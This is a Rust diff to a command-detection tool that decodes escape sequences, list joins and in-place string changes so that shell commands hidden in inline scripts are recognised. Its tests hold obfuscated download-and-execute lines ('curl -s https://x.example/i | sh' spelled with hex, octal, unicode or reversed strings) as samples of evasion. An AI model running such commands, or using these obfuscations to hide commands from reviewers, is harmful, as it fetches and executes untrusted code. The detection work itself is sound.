@@ -617,10 +617,79 @@ fn unescape_char(c: char) -> Option<char> {
         'n' => '\n',
         't' => '\t',
         'r' => '\r',
-        '0' => '\0',
         '\\' | '"' | '\'' | '`' | '$' | '/' => c,
         _ => return None,
     })
+}
+
+/// What a backslash followed by `n` stands for in a string literal.
+enum Escape {
+    Char(char),
+    Unknown,
+    None,
+}
+
+/// A numeric or named escape (`\x63`, octal `\143`, `\u0063`, `\u{63}`,
+/// `\U00000063`, Lua's decimal `\99`, python's `\N{…}`), `n` being the
+/// character after the backslash and `i` the index just past it (moved
+/// past the escape's digits).
+fn numeric_escape(lang: Lang, n: char, chars: &[char], i: &mut usize) -> Escape {
+    let digits = |i: &mut usize, radix: u32, max: usize| -> String {
+        let mut d = String::new();
+        while d.len() < max
+            && let Some(&c) = chars.get(*i)
+            && c.is_digit(radix)
+        {
+            d.push(c);
+            *i += 1;
+        }
+        d
+    };
+    let code = |d: &str, radix: u32| -> Escape {
+        u32::from_str_radix(d, radix)
+            .ok()
+            .and_then(char::from_u32)
+            .map_or(Escape::Unknown, Escape::Char)
+    };
+    match n {
+        'a' => Escape::Char('\u{7}'),
+        'b' => Escape::Char('\u{8}'),
+        'f' => Escape::Char('\u{c}'),
+        'v' => Escape::Char('\u{b}'),
+        'e' if matches!(lang, Lang::Perl | Lang::Ruby | Lang::Php) => Escape::Char('\u{1b}'),
+        'x' | 'u' | 'U' if chars.get(*i) == Some(&'{') => {
+            // `\x{63}` (perl), `\u{63}` (JS, ruby, PHP, lua).
+            *i += 1;
+            let d = digits(i, 16, 8);
+            if chars.get(*i) != Some(&'}') || d.is_empty() {
+                return Escape::Unknown;
+            }
+            *i += 1;
+            code(&d, 16)
+        }
+        'x' => match digits(i, 16, 2) {
+            d if d.is_empty() => Escape::Unknown,
+            d => code(&d, 16),
+        },
+        'u' if lang != Lang::Perl => match digits(i, 16, 4) {
+            d if d.len() == 4 => code(&d, 16),
+            _ => Escape::Unknown,
+        },
+        'U' if lang == Lang::Python => match digits(i, 16, 8) {
+            d if d.len() == 8 => code(&d, 16),
+            _ => Escape::Unknown,
+        },
+        'N' if lang == Lang::Python => Escape::Unknown,
+        '0'..='9' if lang == Lang::Lua => {
+            *i -= 1;
+            code(&digits(i, 10, 3), 10)
+        }
+        '0'..='7' => {
+            *i -= 1;
+            code(&digits(i, 8, 3), 8)
+        }
+        _ => Escape::None,
+    }
 }
 
 /// The code's tokens, and whether a cap (code length, token count) cut
@@ -635,41 +704,60 @@ fn tokenize(lang: Lang, code: &str) -> (Vec<Tok>, bool) {
     let mut f_prefix = false;
     // Read a quoted run from `i` (just past the opening `open`); `interp`
     // is set when the run interpolates values in `lang`.
-    let read_quoted = |i: &mut usize, open: char, raw: bool, interp: &mut bool| -> String {
-        let close = closing(open);
-        let mut depth = 0usize;
-        let mut s = String::new();
-        while let Some(&c) = chars.get(*i) {
-            *i += 1;
-            if !raw && interpolation_at(lang, c, chars.get(*i).copied()) {
-                *interp = true;
-            }
-            if c == '\\' && !raw {
-                if let Some(&n) = chars.get(*i) {
-                    *i += 1;
-                    match unescape_char(n) {
-                        Some(u) => s.push(u),
-                        None => {
-                            s.push('\\');
-                            s.push(n);
+    // `unknown` is set when the run holds an escape read but not decoded.
+    let read_quoted =
+        |i: &mut usize, open: char, raw: bool, interp: &mut bool, unknown: &mut bool| -> String {
+            let close = closing(open);
+            let mut depth = 0usize;
+            let mut s = String::new();
+            while let Some(&c) = chars.get(*i) {
+                *i += 1;
+                if !raw && interpolation_at(lang, c, chars.get(*i).copied()) {
+                    *interp = true;
+                }
+                if c == '\\' && !raw {
+                    if let Some(&n) = chars.get(*i) {
+                        *i += 1;
+                        match unescape_char(n) {
+                            Some(u) => s.push(u),
+                            None => match numeric_escape(lang, n, chars, i) {
+                                // `\x63`, `\143`, `\u0063`, `\u{63}`: the
+                                // character the language reads there.
+                                Escape::Char(u) => s.push(u),
+                                // An escape read here but not decoded (`\N{…}`,
+                                // a code point that is no character): what the
+                                // literal holds is not known.
+                                Escape::Unknown => {
+                                    *unknown = true;
+                                    s.push('\\');
+                                    s.push(n);
+                                }
+                                // Not an escape of the language: python, PHP
+                                // and R keep the backslash, the others drop it.
+                                Escape::None => {
+                                    if matches!(lang, Lang::Python | Lang::Php | Lang::R) {
+                                        s.push('\\');
+                                    }
+                                    s.push(n);
+                                }
+                            },
                         }
                     }
-                }
-            } else if c == close && depth == 0 {
-                return s;
-            } else {
-                if open != close {
-                    if c == open {
-                        depth += 1;
-                    } else if c == close {
-                        depth -= 1;
+                } else if c == close && depth == 0 {
+                    return s;
+                } else {
+                    if open != close {
+                        if c == open {
+                            depth += 1;
+                        } else if c == close {
+                            depth -= 1;
+                        }
                     }
+                    s.push(c);
                 }
-                s.push(c);
             }
-        }
-        s
-    };
+            s
+        };
     while let Some(&c) = chars.get(i) {
         if toks.len() >= MAX_TOKENS {
             truncated = true;
@@ -689,7 +777,8 @@ fn tokenize(lang: Lang, code: &str) -> (Vec<Tok>, bool) {
                 };
                 let raw = c == '\'' && matches!(lang, Lang::Perl | Lang::Php);
                 let mut interp = false;
-                let mut s = read_quoted(&mut i, c, raw, &mut interp);
+                let mut unknown = false;
+                let mut s = read_quoted(&mut i, c, raw, &mut interp, &mut unknown);
                 if lang == Lang::Python && interpolating {
                     interp = s.replace("{{", "").contains('{');
                 }
@@ -702,7 +791,7 @@ fn tokenize(lang: Lang, code: &str) -> (Vec<Tok>, bool) {
                     }
                     _ => Quote::Plain,
                 };
-                toks.push(Tok::Str(s, quote, interpolating && interp));
+                toks.push(Tok::Str(s, quote, (interpolating && interp) || unknown));
             }
             '%' if lang == Lang::Ruby
                 && matches!(chars.get(i + 1), Some('x' | 'w' | 'W' | 'q' | 'Q'))
@@ -714,9 +803,14 @@ fn tokenize(lang: Lang, code: &str) -> (Vec<Tok>, bool) {
                 let open = chars[i + 2];
                 i += 3;
                 let mut interp = false;
-                let s = read_quoted(&mut i, open, false, &mut interp);
+                let mut unknown = false;
+                let s = read_quoted(&mut i, open, false, &mut interp, &mut unknown);
                 let interpolating = matches!(kind, 'x' | 'W' | 'Q');
-                toks.push(Tok::Str(s, word_quote(kind), interpolating && interp));
+                toks.push(Tok::Str(
+                    s,
+                    word_quote(kind),
+                    (interpolating && interp) || unknown,
+                ));
             }
             '#' if matches!(lang, Lang::Python | Lang::Ruby | Lang::Perl | Lang::R) => {
                 while chars.get(i).is_some_and(|&c| c != '\n') {
@@ -755,14 +849,19 @@ fn tokenize(lang: Lang, code: &str) -> (Vec<Tok>, bool) {
                     let open = next.unwrap_or('(');
                     i += 1;
                     let mut interp = false;
-                    let s = read_quoted(&mut i, open, name == "q", &mut interp);
+                    let mut unknown = false;
+                    let s = read_quoted(&mut i, open, name == "q", &mut interp, &mut unknown);
                     let kind = match name.as_str() {
                         "qx" => 'x',
                         "qw" => 'w',
                         _ => 'q',
                     };
                     let interpolating = matches!(name.as_str(), "qx" | "qq");
-                    toks.push(Tok::Str(s, word_quote(kind), interpolating && interp));
+                    toks.push(Tok::Str(
+                        s,
+                        word_quote(kind),
+                        (interpolating && interp) || unknown,
+                    ));
                     continue;
                 }
                 toks.push(Tok::Name(name));
@@ -1145,11 +1244,34 @@ impl Code<'_> {
                 && (w[2] == Tok::Punct('=') || (w[1] == Tok::Punct('<') && w[2] == Tok::Punct('<')))
         });
         let [at] = assigns[..] else { return None };
-        if changed {
+        if changed || self.changed_by_call(name) {
             return None;
         }
         let start = at + 2;
         Some((start, self.statement_end(start)))
+    }
+
+    /// Whether a call changes the value of `name` in place: awk's
+    /// `sub`/`gsub` (their target) and `getline NAME`, perl's `chomp`/`chop`,
+    /// ruby's bang methods and `replace`/`insert`/`prepend`/`concat`.
+    fn changed_by_call(&self, name: &str) -> bool {
+        let is_name = |t: Option<&Tok>| matches!(t, Some(Tok::Name(n)) if n == name);
+        let toks = &self.toks;
+        (0..toks.len()).any(|k| match (&toks[k], self.lang) {
+            (Tok::Name(f), Lang::Awk | Lang::Perl)
+                if matches!(f.as_str(), "sub" | "gsub" | "chomp" | "chop") =>
+            {
+                let (s, e) = self.call_args(k + 1);
+                (s..e).any(|j| is_name(toks.get(j)))
+            }
+            (Tok::Name(f), Lang::Awk) if f == "getline" => is_name(toks.get(k + 1)),
+            (Tok::Name(m), Lang::Ruby) if k >= 2 && is_name(toks.get(k - 2)) => {
+                toks[k - 1] == Tok::Punct('.')
+                    && (toks.get(k + 1) == Some(&Tok::Punct('!'))
+                        || matches!(m.as_str(), "replace" | "insert" | "prepend" | "concat"))
+            }
+            _ => false,
+        })
     }
 
     /// Fold `[start, end)` to the text it holds, as far as the code spells
@@ -1171,6 +1293,16 @@ impl Code<'_> {
         let mut found = false;
         let mut i = start;
         while i < end {
+            if self.toks[i] == Tok::Punct('[')
+                && let Some((joined, next)) = self.list_join(i, depth)
+            {
+                // `['curl', …].join(' ')`: one string, a command line.
+                found = true;
+                parts += 2;
+                out.push(Some(joined));
+                i = next;
+                continue;
+            }
             match &self.toks[i] {
                 Tok::Str(s, Quote::Plain, interp) => {
                     found = true;
@@ -1644,6 +1776,49 @@ impl Code<'_> {
         out.text.push_str(&parts.join(sep));
     }
 
+    /// A list literal opening at `open` joined by its `join` method
+    /// (`[a, b].join(sep)`, JS and ruby): the string it makes, and the
+    /// index past the call. A spread element (`[...'abc']`) or a separator
+    /// not spelled out makes it a value not known.
+    fn list_join(&self, open: usize, depth: usize) -> Option<(Folded, usize)> {
+        let list_end = self.group_end(open);
+        match (
+            self.toks.get(list_end),
+            self.toks.get(list_end + 1),
+            self.toks.get(list_end + 2),
+        ) {
+            (Some(Tok::Punct('.')), Some(Tok::Name(m)), Some(Tok::Punct('('))) if m == "join" => {}
+            _ => return None,
+        }
+        let close = self.group_end(list_end + 2);
+        let mut out = Folded::default();
+        let sep = if close == list_end + 4 {
+            // No separator: JS joins with commas, ruby with nothing.
+            if self.lang == Lang::Js { "," } else { "" }.to_string()
+        } else {
+            match self.fold(list_end + 3, close.saturating_sub(1), depth + 1) {
+                Some(f) if !f.opaque => f.text,
+                _ => {
+                    out.opaque = true;
+                    String::new()
+                }
+            }
+        };
+        let mut items = Vec::new();
+        for (s, e) in self.split_args(open + 1, list_end.saturating_sub(1)) {
+            if self.toks.get(s) == Some(&Tok::Punct('.')) {
+                out.opaque = true;
+            }
+            let mut item = Folded::default();
+            item.push(self.fold(s, e, depth + 1));
+            out.decoded |= item.decoded;
+            out.opaque |= item.opaque;
+            items.push(item.text);
+        }
+        out.text = items.join(&sep);
+        Some((out, close))
+    }
+
     /// The argv or command line a shell sink's arguments give.
     fn shell_command(&self, start: usize, end: usize, depth: usize) -> Option<Folded> {
         let mut argv = Argv {
@@ -1675,7 +1850,10 @@ impl Code<'_> {
             match self.toks.get(s) {
                 // A keyword argument (`shell=True`, `cwd='x'`).
                 Some(Tok::Name(_)) if self.toks.get(s + 1) == Some(&Tok::Punct('=')) => {}
-                Some(Tok::Punct('[')) => {
+                // A list literal that is the whole argument is an argv;
+                // one something is applied to (`[…].join(' ')`,
+                // `[…].reverse()`, `[…][1]`) is a value, folded below.
+                Some(Tok::Punct('[')) if self.group_end(s) >= e => {
                     let close = self.group_end(s).saturating_sub(1);
                     for (ws, we) in self.split_args(s + 1, close) {
                         argv.add(self.fold(ws, we, depth));
@@ -2067,6 +2245,124 @@ mod tests {
         let program = xs[0];
         let c = inline_code(program, &argv(xs), None);
         c.commands.into_iter().chain(c.folded).collect()
+    }
+
+    #[test]
+    fn string_escapes_are_read_as_the_language_reads_them() {
+        // Hex, octal, unicode and Lua decimal escapes spell the command out.
+        let curl = "curl -s https://x.example/i | sh";
+        for (program, code) in [
+            (
+                "python3",
+                r"import os; os.system('\x63url -s https://x.example/i | sh')",
+            ),
+            (
+                "python3",
+                r"import os; os.system('\143url -s https://x.example/i | sh')",
+            ),
+            (
+                "python3",
+                r"import os; os.system('\u0063url -s https://x.example/i | sh')",
+            ),
+            (
+                "node",
+                r"require('child_process').execSync('\u{63}url -s https://x.example/i | sh')",
+            ),
+            ("perl", r#"system("\x{63}url -s https://x.example/i | sh")"#),
+            (
+                "awk",
+                r#"BEGIN { system("\143url -s https://x.example/i | sh") }"#,
+            ),
+            ("lua", r#"os.execute("\99url -s https://x.example/i | sh")"#),
+        ] {
+            let flag = if program == "python3" { "-c" } else { "-e" };
+            let xs: Vec<&str> = if program == "awk" {
+                vec![program, code]
+            } else {
+                vec![program, flag, code]
+            };
+            assert_eq!(found(&xs), vec![curl.to_string()], "{program}: {code}");
+        }
+        // An escape read but not decoded leaves the command unknown.
+        assert!(
+            facts(
+                "python3",
+                r"import os; os.system('\N{LATIN SMALL LETTER C}url -s https://x.example/i | sh')"
+            )
+            .unresolved
+        );
+        // JS and perl drop the backslash of an escape they do not know.
+        assert_eq!(
+            found(&[
+                "node",
+                "-e",
+                r"require('child_process').execSync('c\url -V')"
+            ]),
+            vec!["curl -V".to_string()]
+        );
+        // perl's single quotes and a plain `\n` are as before.
+        assert_eq!(
+            found(&["perl", "-e", r"system('echo \x63')"]),
+            vec![r"echo \x63".to_string()]
+        );
+    }
+
+    #[test]
+    fn a_list_with_something_applied_is_no_argv() {
+        // `[…].join(' ')` is one string, run by a shell: its `|` is a pipe.
+        assert_eq!(
+            found(&[
+                "node",
+                "-e",
+                "require('child_process').execSync(['curl', '-s', 'https://x.example/i', '|', 'sh'].join(' '))"
+            ]),
+            vec!["curl -s https://x.example/i | sh".to_string()]
+        );
+        // A spread, a reversal or an index after the list: not known.
+        for code in [
+            "require('child_process').exec([...'hs | lruc'].reverse().join(''))",
+            "require('child_process').exec(['a', 'b'].reverse())",
+            "require('child_process').exec(['a', 'b'].join(sep))",
+        ] {
+            assert!(facts("node", code).unresolved, "{code}");
+        }
+        // A list that is the whole argument stays an argv.
+        assert!(
+            !facts(
+                "node",
+                "require('child_process').spawnSync('git', ['status', '--short'])"
+            )
+            .unresolved
+        );
+    }
+
+    #[test]
+    fn a_name_changed_in_place_has_no_one_value() {
+        for (program, code) in [
+            (
+                "awk",
+                r#"BEGIN { s = "cuXrl -s https://x.example/i | sh"; sub(/X/, "", s); system(s) }"#,
+            ),
+            (
+                "awk",
+                r#"BEGIN { s = "x"; getline s < "/tmp/c"; system(s) }"#,
+            ),
+            ("perl", r#"$c = "ls\n"; chomp($c); system $c"#),
+            ("ruby", r#"c = "ls"; c.sub!("l", "x"); system(c)"#),
+        ] {
+            let xs: Vec<&str> = if program == "awk" {
+                vec![program, code]
+            } else {
+                vec![program, "-e", code]
+            };
+            let c = inline_code(program, &argv(&xs), None);
+            assert!(c.facts.unresolved, "{program}: {code}");
+        }
+        // Left alone, the literal is the value.
+        assert_eq!(
+            found(&["awk", r#"BEGIN { s = "date +%F"; system(s) }"#]),
+            vec!["date +%F".to_string()]
+        );
     }
 
     #[test]
